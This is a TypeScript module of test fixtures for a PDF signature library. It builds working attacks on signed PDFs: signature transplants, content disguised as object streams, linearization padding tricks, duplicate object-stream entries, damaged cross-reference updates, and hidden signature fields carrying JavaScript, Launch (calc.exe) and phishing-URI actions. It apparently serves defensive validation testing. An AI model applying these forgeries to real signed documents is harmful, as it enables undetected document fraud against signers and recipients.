/** `n g obj ... endobj` text of one object (streams with their /Length). */
export function objectBody(ref: PdfRef, value: PdfObject): string {
  if (value instanceof PdfStream) {
    const d = value.dict.clone();
    d.set('Length', value.data.length);
    return `${ref.num} ${ref.gen} obj\n${serializeObject(d)}\nstream\n${Buffer.from(value.data).toString('latin1')}\nendstream\nendobj\n`;
  }
  return `${ref.num} ${ref.gen} obj\n${serializeObject(value)}\nendobj\n`;
}

/** What a hand-written cross-reference stream update holds. */
export interface StreamUpdateSpec {
  /** Objects written in plain and listed (full `n g obj ... endobj` text). */
  objects?: { num: number; body: string; gen?: number }[];
  /** Object numbers listed free. */
  free?: number[];
  /** A new object stream: its members in order, and the entries the xref stream gives them (default: each at its own index). */
  objectStream?: { members: { num: number; body: string }[]; entries?: { num: number; index: number }[] };
  /** Bytes written in the update before its cross-reference stream that no entry names. */
  unlisted?: string;
  /** Rows /Index declares beyond those the stream's data holds (an over-declared xref stream). */
  overDeclare?: number;
}

/**
 * An incremental update written by hand with a cross-reference stream (ISO 32000-2 §7.5.8),
 * whatever the base uses: plain objects, free entries, an object stream whose header may say
 * anything, and bytes that no entry names.
 */
export function rawStreamUpdate(pdf: Uint8Array, spec: StreamUpdateSpec): Uint8Array {
  const doc = PdfDocument.load(pdf);
  const view = doc.latest;
  let next = Math.max(
    view.size,
    ...(spec.objects ?? []).map((o) => o.num + 1),
    ...(spec.free ?? []).map((n) => n + 1),
  );
  let text = pdf[pdf.length - 1] === 0x0a ? '' : '\n';
  const rows = new Map<number, [number, number, number]>();
  for (const o of spec.objects ?? []) {
    rows.set(o.num, [1, pdf.length + text.length, o.gen ?? 0]);
    text += o.body;
  }
  for (const n of spec.free ?? []) rows.set(n, [0, 0, 1]);
  if (spec.objectStream) {
    const stm = next++;
    const { members } = spec.objectStream;
    let header = '';
    let data = '';
    for (const m of members) {
      header += `${m.num} ${data.length} `;
      data += m.body + '\n';
    }
    const body = header + data;
    rows.set(stm, [1, pdf.length + text.length, 0]);
    text += `${stm} 0 obj\n<< /Type /ObjStm /N ${members.length} /First ${header.length} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`;
    const entries = spec.objectStream.entries ?? members.map((m, index) => ({ num: m.num, index }));
    for (const e of entries) rows.set(e.num, [2, stm, e.index]);
  }
  text += spec.unlisted ?? '';
  const xrefNum = next++;
  const xrefAt = pdf.length + text.length;
  rows.set(xrefNum, [1, xrefAt, 0]);
  const nums = [...rows.keys()].sort((a, b) => a - b);
  const index: number[] = [];
  let data = '';
  for (const n of nums) {
    const [t, a, b] = rows.get(n)!;
    index.push(n, 1);
    data += String.fromCharCode(
      t,
      (a >>> 24) & 255,
      (a >>> 16) & 255,
      (a >>> 8) & 255,
      a & 255,
      (b >> 8) & 255,
      b & 255,
    );
  }
  if (spec.overDeclare) index.push(next + 100, spec.overDeclare);
  const t = view.trailer;
  const ref = (k: string) =>
    t.get(k) instanceof PdfRef ? ` /${k} ${(t.get(k) as PdfRef).num} ${(t.get(k) as PdfRef).gen} R` : '';
  const size = spec.overDeclare ? next + 100 + spec.overDeclare : next;
  text += `${xrefNum} 0 obj\n<< /Type /XRef /Size ${size}${ref('Root')}${ref('Info')} /Prev ${doc.startxref} /W [1 4 2] /Index [${index.join(' ')}] /Length ${data.length} >>\nstream\n${data}\nendstream\nendobj\n`;
  text += `startxref\n${xrefAt}\n%%EOF\n`;
  return concat(pdf, new Uint8Array(Buffer.from(text, 'latin1')));
}

// --- 1. Signature transplant -----------------------------------------------------------------

/** The bytes a signature of `pdf` signs (its two ranges), and its CMS. */
export function signedPartOf(
  pdf: Uint8Array,
  which: 'first' | 'last' = 'last',
): { signedBytes: Uint8Array; cms: Uint8Array } {
  const loc = locateSignature(pdf, which);
  const [, a, b, c] = loc.values;
  // the gap of the ByteRange is the /Contents string (pyHanko writes `/Contents<` without a space)
  const hexText = Buffer.from(pdf.subarray(a + 1, b - 1)).toString('latin1');
  const padded = hexToBytes(hexText);
  // the DER (or BER: pyHanko's ends in end-of-contents octets) without the zero padding
  const cms = padded.subarray(0, parseDer(padded, { allowTrailing: true }).end);
  return { signedBytes: concat(pdf.subarray(0, a), pdf.subarray(b, b + c)), cms };
}

function derLength(n: number): number[] {
  if (n < 0x80) return [n];
  const out: number[] = [];
  for (let x = n; x > 0; x = Math.floor(x / 256)) out.unshift(x & 255);
  return [0x80 | out.length, ...out];
}

function tlv(tag: number, content: Uint8Array): Uint8Array {
  return concat(new Uint8Array([tag, ...derLength(content.length)]), content);
}

/**
 * The CMS `cms` with `content` encapsulated (encapContentInfo gets an eContent [0] OCTET STRING):
 * the signer's signature over the signed attributes still verifies, and its message-digest is
 * the hash of `content`, so a verifier that checks a detached PDF signature against eContent
 * accepts it on any document.
 */
export function withEncapsulatedContent(cms: Uint8Array, content: Uint8Array): Uint8Array {
  const ci = parseDer(cms, { allowTrailing: true });
  const sd = ci.children[1]!.children[0]!;
  const encap = sd.children[2]!;
  const oid = encap.children[0]!;
  const newEncap = tlv(0x30, concat(oid.raw, tlv(0xa0, tlv(0x04, content))));
  const sdBody = concat(...sd.children.map((c) => (c === encap ? newEncap : c.raw)));
  return tlv(0x30, concat(ci.children[0]!.raw, tlv(0xa0, tlv(0x30, sdBody))));
}

/**
 * Red team class 1: the CMS of the signature of `donor` (Sidian- or pyHanko-signed), its signed
 * bytes added as eContent, appended as a new signature to `target`, under `subFilter`.
 */
export async function transplantSignature(
  donor: Uint8Array,
  target: Uint8Array,
  subFilter: 'ETSI.CAdES.detached' | 'adbe.pkcs7.detached',
  which: 'first' | 'last' = 'last',
): Promise<Uint8Array> {
  const { signedBytes, cms } = signedPartOf(donor, which);
  const forged = withEncapsulatedContent(cms, signedBytes);
  const r = await appendSignature(target, {
    kind: 'cms',
    produce: async () => forged,
    contentsSize: Math.max(12 * 1024, forged.length + 16),
    extra: [['SubFilter', N(subFilter)]],
  });
  return r.pdf;
}

// --- 2. Object and cross-reference streams that are page content -----------------------------

/**
 * Prepares an original (before signing) whose first page's content stream also says
 * `/Type /ObjStm` (or `/Type /XRef`): viewers render it as content all the same.
 */
export function contentDisguisedAs(pdf: Uint8Array, type: 'ObjStm' | 'XRef'): Uint8Array {
  return update(pdf, (u) => {
    const c = firstContentRef(u.view);
    const d = u.editDict(c);
    d.set('Type', N(type));
    if (type === 'ObjStm') {
      d.set('N', 0);
      d.set('First', 0);
    } else {
      d.set('W', [1, 1, 1]);
      d.set('Size', 0);
    }
  });
}

export const DISGUISED_TEXT = 'Sidian fixture: AMOUNT CHANGED TO 9,999,999';

/** After signing: the disguised content stream rewritten, still /Type /ObjStm or /XRef, drawing new text. */
export function rewriteDisguisedContent(signed: Uint8Array): Uint8Array {
  return update(signed, (u) => {
    const c = firstContentRef(u.view);
    const old = u.view.get(c.num) as PdfStream;
    const d = old.dict.clone();
    d.delete('Filter');
    d.delete('DecodeParms');
    u.set(c, new PdfStream(d, latin1Bytes(`BT /F1 24 Tf 72 700 Td (${DISGUISED_TEXT}) Tj ET\n`)));
  });
}

/**
 * After signing: the signed revision's own cross-reference stream object, or its first object
 * stream (its objects kept as they were, with more bytes after them), rewritten in place.
 */
export function rewriteStructuralObject(signed: Uint8Array, type: 'ObjStm' | 'XRef'): Uint8Array {
  const num = findObjectNum(signed, (d) => d.name('Type') === type);
  const text = 'BT /F1 24 Tf 72 700 Td (REWRITTEN STRUCT) Tj ET';
  let dict = `<< /Type /XRef /W [1 1 1] /Size 0 /Length ${text.length} >>`;
  let data = text;
  if (type === 'ObjStm') {
    const old = PdfDocument.load(signed).latest.get(num) as PdfStream;
    data = Buffer.from(decodeStream(old)).toString('latin1') + '\n' + text;
    dict = `<< /Type /ObjStm /N ${old.dict.get('N') as number} /First ${old.dict.get('First') as number} /Length ${data.length} >>`;
  }
  return rawStreamUpdate(signed, {
    objects: [{ num, body: `${num} 0 obj\n${dict}\nstream\n${data}\nendstream\nendobj\n` }],
  });
}

// --- 3. A linearized original whose /L is reached after signing ------------------------------

/** The linearization dictionary's object (first in the file) rewritten with `/L` = `length`, in the same bytes. */
export function withLinearizedLength(pdf: Uint8Array, length: number): Uint8Array {
  const s = Buffer.from(pdf).toString('latin1');
  const m = /^(%PDF-[^\n]*\n(?:%[^\n]*\n)?)(\d+ 0 obj\s*<<[^]*?>>\s*endobj)([ \r\n]*)(?=xref|\d+ 0 obj)/.exec(
    s,
  );
  if (!m) throw new Error('no linearization dictionary at the start');
  const region = m[2]! + m[3]!;
  const rewritten = m[2]!.replace(/\/L\s+\d+/, `/L ${length}`);
  if (rewritten.length + 1 > region.length) throw new Error('no room for /L');
  const padded = rewritten + ' '.repeat(region.length - rewritten.length - 1) + '\n';
  return new Uint8Array(Buffer.from(m[1]! + padded + s.slice(m[0].length), 'latin1'));
}

/** The same linearized input with a cross-reference stream and object streams (qpdf). */
export function linearizedWithStreams(dir: string): Uint8Array {
  const src = path.join(INPUTS_DIR, 'linearized.pdf');
  const out = path.join(dir, `linearized-objstm-${Date.now()}.pdf`);
  execFileSync('qpdf', ['--linearize', '--object-streams=generate', '--deterministic-id', src, out]);
  return new Uint8Array(readFileSync(out));
}

export const LINEARIZED_HONEST_TEXT = 'Sidian fixture: the text the signer saw';

/**
 * Red team class 3: the attacker's original is a linearized file (`linearized`) followed by an
 * update that changes page 1 to what the signer is meant to see; its linearization dictionary's
 * /L is set to the length the file will have after `sign` and the attacker's `after` (padding by
 * default). Linearization-aware readers (pdf.js, poppler) then read only the first-page
 * cross-reference and its revision: the content before the update, not what was signed.
 */
export async function linearizedPaddingAttack(
  linearized: Uint8Array,
  sign: (pdf: Uint8Array) => Promise<Uint8Array>,
  after: (signed: Uint8Array) => Uint8Array | Promise<Uint8Array> = (x) => x,
): Promise<{ original: Uint8Array; signed: Uint8Array; attacked: Uint8Array }> {
  const build = async (length: number) => {
    const base = withLinearizedLength(linearized, length);
    const original = update(base, (u) => {
      const c = firstContentRef(u.view);
      u.set(c, stream(`BT /F1 24 Tf 72 700 Td (${LINEARIZED_HONEST_TEXT}) Tj ET\n`));
    });
    const signed = await sign(original);
    return { original, signed, after: await after(signed) };
  };
  const probe = await build(999_999);
  const target = probe.after.length + 200;
  const real = await build(target);
  if (real.after.length !== probe.after.length) throw new Error('signing is not length-deterministic');
  const pad = target - real.after.length;
  // whitespace only: nothing a verifier could call an unsigned change
  const attacked = concat(real.after, latin1Bytes(' '.repeat(pad - 1) + '\n'));
  return { original: real.original, signed: real.signed, attacked };
}

// --- 4. One object number twice in a new object stream ---------------------------------------

/**
 * Red team class 4: an update adds an invisible, empty signature field whose widget sits in a new
 * object stream twice: the copy the cross-reference names is invisible; the other is drawn over
 * the page with a Launch action. MuPDF takes the first copy, pdf.js the last.
 */
export function duplicateInObjectStream(
  signed: Uint8Array,
  order: 'visible-first' | 'visible-last' = 'visible-last',
): Uint8Array {
  const u = new Update(signed);
  const widget = u.allocate();
  const page = u.page(0);
  const plain = new PdfDict([
    ['Type', N('Annot')],
    ['Subtype', N('Widget')],
    ['FT', N('Sig')],
    ['T', PdfString.fromText(`dup-${++fieldCounter}`)],
    ['Rect', [0, 0, 0, 0]],
    ['F', 132],
    ['P', page.ref],
  ]);
  const [x0, y0, x1, y1] = MARKER_RECT as [number, number, number, number];
  const ap = textBox(u, x1 - x0, y1 - y0, 'Sidian fixture: AMOUNT 1,000,000');
  const shown = plain.clone();
  shown.set('Rect', [x0, y0, x1, y1]);
  shown.set('F', 4);
  shown.set('AP', new PdfDict([['N', ap]]));
  shown.set(
    'A',
    new PdfDict([
      ['S', N('Launch')],
      ['F', PdfString.latin1('calc.exe')],
    ]),
  );
  u.addAnnot(0, widget);
  u.addField(widget);
  const a = `${serializeObject(plain)}`;
  const b = `${serializeObject(shown)}`;
  const members = order === 'visible-last' ? [a, b] : [b, a];
  const invisibleIndex = order === 'visible-last' ? 0 : 1;
  return rawStreamUpdate(signed, {
    objects: u.rawEntries(),
    objectStream: {
      members: members.map((body) => ({ num: widget.num, body })),
      entries: [{ num: widget.num, index: invisibleIndex }],
    },
  });
}

// --- 5. Object headers after a delimiter, in an over-declared xref stream update -------------

/**
 * Red team class 5: an update whose cross-reference stream declares more entries than it holds
 * (MuPDF then rebuilds the cross-reference from the object headers it finds) and that redefines
 * page 1's content stream after a delimiter (`(x)5 0 obj`, `[]5 0 obj`), listed in no entry.
 */
export function delimiterRedefinition(signed: Uint8Array, delimiter: '(x)' | '[]' | '>>'): Uint8Array {
  const view = PdfDocument.load(signed).latest;
  const c = firstContentRef(view);
  const content = `BT /F1 24 Tf 72 700 Td (${DISGUISED_TEXT}) Tj ET`;
  return rawStreamUpdate(signed, {
    unlisted: `% padding\n${delimiter}${c.num} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`,
    overDeclare: 40,
  });
}

// --- 6, 7. New signature fields that carry actions -------------------------------------------

export type ActionKind = 'javascript' | 'launch' | 'uri' | 'page-open';
export const ACTION_KINDS: ActionKind[] = ['javascript', 'launch', 'uri', 'page-open'];

function actionEntry(kind: ActionKind): [string, PdfObject] {
  const js = new PdfDict([
    ['S', N('JavaScript')],
    ['JS', PdfString.latin1('app.alert("Sidian fixture: action added after signing")')],
  ]);
  switch (kind) {
    case 'javascript':
      return ['A', js];
    case 'launch':
      return [
        'A',
        new PdfDict([
          ['S', N('Launch')],
          ['F', PdfString.latin1('calc.exe')],
        ]),
      ];
    case 'uri':
      return [
        'A',
        new PdfDict([
          ['S', N('URI')],
          ['URI', PdfString.latin1('https://example.invalid/phish')],
        ]),
      ];
    case 'page-open':
      return ['AA', new PdfDict([['PO', js]])];
  }
}

/**
 * Red team classes 6 and 7: a new, invisible (zero-size, hidden) signature field whose widget
 * carries an action, left empty, signed (`cms`) or filled with a document time-stamp.
 */
export async function actionSignatureField(
  pdf: Uint8Array,
  kind: ActionKind,
  fill: { kind: 'empty' } | { kind: 'cms'; signer: Signer } | { kind: 'doc-timestamp'; tsa: Tsa },
): Promise<Uint8Array> {
  const addField = (u: Update, sigRef?: PdfRef) => {
    const page = u.page(0);
    const field = new PdfDict([
      ['Type', N('Annot')],
      ['Subtype', N('Widget')],
      ['FT', N('Sig')],
      ['T', PdfString.fromText(`action-${kind}-${++fieldCounter}`)],
      ['Rect', [0, 0, 0, 0]],
      ['F', 4 | 2],
      ['P', page.ref],
      actionEntry(kind),
    ]);
    if (sigRef) field.set('V', sigRef);
    const ref = u.add(field);
    u.addAnnot(0, ref);
    u.addField(ref);
    u.acroForm().set('SigFlags', 3);
  };
  if (fill.kind === 'empty') return update(pdf, (u) => addField(u));
  const r = await appendSignature(pdf, {
    kind: fill.kind,
    produce:
      fill.kind === 'cms'
        ? cadesProducer(fill.signer)
        : (digest) => requestTimestamp(fill.tsa, digest, 'SHA-256'),
    attach: false,
    edit: (u, sigRef) => addField(u, sigRef),
  });
  return r.pdf;
}

// --- 8. A later signature removed with its objects freed -------------------------------------

/**
 * Red team class 8: an update that takes the newest signature out of /Fields and /Annots and
 * frees its field, widget and signature dictionary (and, with `overwrite`, writes `null` over the
 * signature dictionary instead of freeing it). Written with the base's own kind of cross-reference.
 */
export function removeNewestSignatureFreed(
  signed: Uint8Array,
  mode: 'free' | 'overwrite' = 'free',
): Uint8Array {
  const doc = PdfDocument.load(signed);
  const view = doc.latest;
  const sigs = listFields(view).filter((f) => f.type === 'Sig' && f.dict.get('V') instanceof PdfRef && f.ref);
  const newest = sigs.sort(
    (a, b) =>
      view.offsetOf((b.dict.get('V') as PdfRef).num)! - view.offsetOf((a.dict.get('V') as PdfRef).num)!,
  )[0]!;
  const u = new Update(signed);
  const gone = new Set([newest.ref!.num, ...newest.widgets.flatMap((w) => (w.ref ? [w.ref.num] : []))]);
  const drop = (a: PdfObject[]) => a.filter((x) => !(x instanceof PdfRef && gone.has(x.num)));
  const acro = u.acroForm();
  const fields = acro.get('Fields');
  if (fields instanceof PdfRef) u.set(fields, drop(u.view.array(fields) ?? []));
  else acro.set('Fields', drop((fields as PdfObject[]) ?? []));
  for (const [i, p] of u.pages().entries()) {
    const annots = p.dict.get('Annots');
    const arr = u.view.array(annots);
    if (!arr?.some((x) => x instanceof PdfRef && gone.has(x.num))) continue;
    if (annots instanceof PdfRef) u.set(annots, drop(arr));
    else u.editDict(u.page(i).ref).set('Annots', drop(arr));
  }
  const sigNum = (newest.dict.get('V') as PdfRef).num;
  const objects = u.rawEntries();
  const free = [...gone];
  if (mode === 'free') free.push(sigNum);
  else objects.push({ num: sigNum, body: `${sigNum} 0 obj\nnull\nendobj\n` });
  if (doc.sections[0]!.kind === 'stream') return rawStreamUpdate(signed, { objects, free });
  return rawUpdate(signed, [...objects, ...free.map((num) => ({ num, free: true as const }))]);
}

// --- 9. An update with a damaged cross-reference that redefines widgets ----------------------

/**
 * Red team class 9: after the signature, an update that redefines a form widget of page 1 so that
 * it covers `MARKER_RECT` with a new appearance, while its cross-reference is damaged: `offsets`
 * past the end of the file, or `startxref` pointing into the update (at its first object).
 */
export type XrefDamage = 'offsets-past-eof' | 'startxref-into-update' | 'unlisted-redefinition';
export const XREF_DAMAGES: XrefDamage[] = [
  'offsets-past-eof',
  'startxref-into-update',
  'unlisted-redefinition',
];

export function damagedWidgetUpdate(signed: Uint8Array, damage: XrefDamage): Uint8Array {
  const view = PdfDocument.load(signed).latest;
  const fields = listFields(view);
  const field =
    fields.find((f) => f.type === 'Tx' && f.widgets[0]?.ref) ?? fields.find((f) => f.widgets[0]?.ref)!;
  const w = field.widgets[0]!;
  const u = new Update(signed);
  const [x0, y0, x1, y1] = MARKER_RECT as [number, number, number, number];
  const ap = textBox(u, x1 - x0, y1 - y0, 'Sidian fixture: AMOUNT 1,000,000');
  const d = u.editDict(w.ref!);
  d.set('Rect', [x0, y0, x1, y1]);
  d.set('AP', new PdfDict([['N', ap]]));
  const entries = u.rawEntries();
  if (damage === 'unlisted-redefinition') {
    // the table lists one new, unreferenced object, at an offset past the end of the file (MuPDF
    // then rebuilds the cross-reference); the widget and its appearance are written in the update
    // but listed nowhere
    // each header after a delimiter, as MuPDF's repair reads them
    const bodies = entries.map((e) => `[]${e.body}`).join('');
    const spare = view.size + 50;
    const out = rawUpdate(signed, [{ num: spare, offset: signed.length + 100_000 }]);
    const s = Buffer.from(out).toString('latin1');
    const at = s.indexOf('xref', signed.length);
    const shifted =
      s.slice(0, at) + bodies + s.slice(at).replace(/startxref\n\d+/, `startxref\n${at + bodies.length}`);
    return new Uint8Array(Buffer.from(shifted, 'latin1'));
  }
  const out = rawUpdate(signed, entries);
  const s = Buffer.from(out).toString('latin1');
  const tail = s.slice(signed.length);
  if (damage === 'offsets-past-eof') {
    // every offset of the update's table moved 100 000 bytes past the end
    const fixed = tail.replace(
      /^(\d{10}) (\d{5}) n/gm,
      (_m, off: string, gen: string) => `${String(Number(off) + 100_000).padStart(10, '0')} ${gen} n`,
    );
    return new Uint8Array(Buffer.from(s.slice(0, signed.length) + fixed, 'latin1'));
  }
  const firstObj = signed.length + tail.search(/\d+ 0 obj/);
  const fixed = tail.replace(/startxref\n\d+\n%%EOF\n$/, `startxref\n${firstObj}\n%%EOF\n`);
  return new Uint8Array(Buffer.from(s.slice(0, signed.length) + fixed, 'latin1'));
}

// --- Also wrong before: shared appearance dictionaries, UR3, choice fields -------------------

/**
 * Prepares an original whose empty signature field `name` has an indirect appearance dictionary
 * (`/AP n 0 R`) that the trailer (or, with `where: 'custom-key'`, the catalog under a custom key)
 * refers to as well.
 */
export function shareAppearanceDict(
  pdf: Uint8Array,
  name: string,
  where: 'trailer' | 'custom-key' | 'info' | 'nowhere',
): Uint8Array {
  const u = new Update(pdf);
  const field = listFields(u.view).find((f) => f.fullName === name)!;
  const w = field.widgets[0]!;
  const rect = (u.view.array(w.dict.get('Rect')) ?? [0, 0, 100, 50]).map((x) => u.view.number(x) ?? 0);
  const apStream = u.add(
    formXObject(Math.abs(rect[2]! - rect[0]!), Math.abs(rect[3]! - rect[1]!), '0 0 1 RG 1 1 10 10 re S\n'),
  );
  const apDict = u.add(new PdfDict([['N', apStream]]));
  u.editDict(w.ref!).set('AP', apDict);
  if (where === 'custom-key') u.catalog().set('SidianCustom', apDict);
  const raw = u.rawEntries();
  if (where === 'custom-key' || where === 'nowhere') return rawUpdate(pdf, raw);
  if (where === 'info') {
    const out = rawUpdate(pdf, raw);
    return editLastTrailer(out, (t) => t.replace(/\/Info \d+ 0 R/, `/Info ${apDict.num} 0 R`));
  }
  return rawUpdate(pdf, raw, { trailerExtra: ` /SidianShared ${apDict.num} 0 R` });
}

/**
 * After signing the prepared original: a later signature's update signs field `name` and rewrites
 * its shared appearance dictionary in place (its /N now a new stream drawing text).
 */
export async function signRewritingSharedAppearance(
  pdf: Uint8Array,
  name: string,
  signer: Signer,
): Promise<Uint8Array> {
  const view = PdfDocument.load(pdf).latest;
  const field = listFields(view).find((f) => f.fullName === name)!;
  const apRef = field.widgets[0]!.dict.get('AP') as PdfRef;
  const r = await appendSignature(pdf, {
    kind: 'cms',
    produce: cadesProducer(signer),
    attach: false,
    edit: (u, sigRef) => {
      u.editDict(field.ref!).set('V', sigRef);
      const apStream = textBox(u, 200, 80, 'Sidian fixture: SHARED APPEARANCE');
      u.editDict(apRef).set('N', apStream);
    },
  });
  return r.pdf;
}

/**
 * Prepares an original with a usage-rights signature dictionary (`/Perms /UR3`, as Adobe Reader
 * extensions carry; its /Contents is a placeholder, not a real signature) in the catalog.
 */
export function withUsageRights(pdf: Uint8Array): Uint8Array {
  return update(pdf, (u) => {
    const ur3 = u.add(
      new PdfDict([
        ['Type', N('Sig')],
        ['Filter', N('Adobe.PPKLite')],
        ['SubFilter', N('adbe.pkcs7.detached')],
        ['ByteRange', [0, 0, 0, 0]],
        ['Contents', new PdfRaw('<' + '0'.repeat(64) + '>')],
        [
          'Reference',
          [
            new PdfDict([
              ['Type', N('SigRef')],
              ['TransformMethod', N('UR3')],
              [
                'TransformParams',
                new PdfDict([
                  ['Type', N('TransformParams')],
                  ['V', N('2.2')],
                  ['Form', [N('FillIn')]],
                ]),
              ],
            ]),
          ],
        ],
      ]),
    );
    u.catalog().set('Perms', new PdfDict([['UR3', ur3]]));
  });
}

/** Prepares an original with a combo-box choice field "colour" (options red, green, blue; red chosen) on page 1. */
export function withChoiceField(pdf: Uint8Array): Uint8Array {
  return update(pdf, (u) => {
    const helv = acroFormFont(u.view);
    const res = new PdfDict(helv ? [['Font', new PdfDict([['Helv', helv]])]] : []);
    const ap = u.add(formXObject(120, 20, '/Tx BMC q BT /Helv 12 Tf 0 g 3 5 Td (red) Tj ET Q EMC\n', res));
    const field = u.add(
      new PdfDict([
        ['Type', N('Annot')],
        ['Subtype', N('Widget')],
        ['FT', N('Ch')],
        ['Ff', 1 << 17],
        ['T', PdfString.fromText('colour')],
        ['Opt', [PdfString.latin1('red'), PdfString.latin1('green'), PdfString.latin1('blue')]],
        ['V', PdfString.latin1('red')],
        ['I', [0]],
        ['DA', PdfString.latin1('/Helv 12 Tf 0 g')],
        ['Rect', [350, 200, 470, 220]],
        ['F', 4],
        ['P', u.page(0).ref],
        ['AP', new PdfDict([['N', ap]])],
      ]),
    );
    u.addAnnot(0, field);
    u.addField(field);
  });
}

/** Fills choice field `name` with option `index` (/V, /I and a new appearance), or, with `opt`, also rewrites its options. */
export function fillChoiceField(pdf: Uint8Array, name: string, index: number, opt?: string[]): Uint8Array {
  return update(pdf, (u) => {
    const field = listFields(u.view).find((f) => f.fullName === name)!;
    const fd = u.editDict(field.ref!);
    const options =
      opt ?? (u.view.array(fd.get('Opt')) ?? []).map((o) => (o instanceof PdfString ? o.text() : ''));
    if (opt)
      fd.set(
        'Opt',
        opt.map((o) => PdfString.latin1(o)),
      );
    fd.set('V', PdfString.latin1(options[index]!));
    fd.set('I', [index]);
    const helv = acroFormFont(u.view);
    const res = new PdfDict(helv ? [['Font', new PdfDict([['Helv', helv]])]] : []);
    fd.set(
      'AP',
      new PdfDict([
        [
          'N',
          u.add(
            formXObject(
              120,
              20,
              `/Tx BMC q BT /Helv 12 Tf 0 g 3 5 Td (${options[index]}) Tj ET Q EMC\n`,
              res,
            ),
          ),
        ],
      ]),
    );
  });
}

// --- What viewers show -----------------------------------------------------------------------

/** The text pdf.js (the legacy build, as in Node) extracts from every page of `pdf`. */
export async function pdfjsText(pdf: Uint8Array): Promise<string> {
  const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
  try {
    const doc = await pdfjs.getDocument({ data: pdf.slice(), isEvalSupported: false, verbosity: 0 }).promise;
    let out = '';
    for (let i = 1; i <= doc.numPages; i++) {
      const page = await doc.getPage(i);
      const text = await page.getTextContent();
      out += text.items.map((x) => ('str' in x ? x.str : '')).join(' ') + '\n';
    }
    await doc.destroy();
    return out;
  } catch (e) {
    return `(unreadable: ${(e as Error).message})`;
  }
}

/** The text poppler (pdftotext) and MuPDF (mutool draw -F txt) extract from `pdf`, all pages. */
export function viewerText(pdf: Uint8Array, dir: string, tool: 'poppler' | 'mupdf'): string {
  const f = path.join(dir, `viewer-${Date.now()}-${Math.random().toString(36).slice(2)}.pdf`);
  writeFileSync(f, pdf);
  try {
    if (tool === 'poppler')
      return execFileSync('pdftotext', ['-q', f, '-'], {
        encoding: 'latin1',
        stdio: ['ignore', 'pipe', 'ignore'],
      });
    return execFileSync('mutool', ['draw', '-q', '-F', 'txt', '-o', '-', f], {
      encoding: 'latin1',
      stdio: ['ignore', 'pipe', 'ignore'],
    });
  } catch (e) {
    return `(unreadable: ${(e as Error).message.split('\n')[0]})`;
  }
}
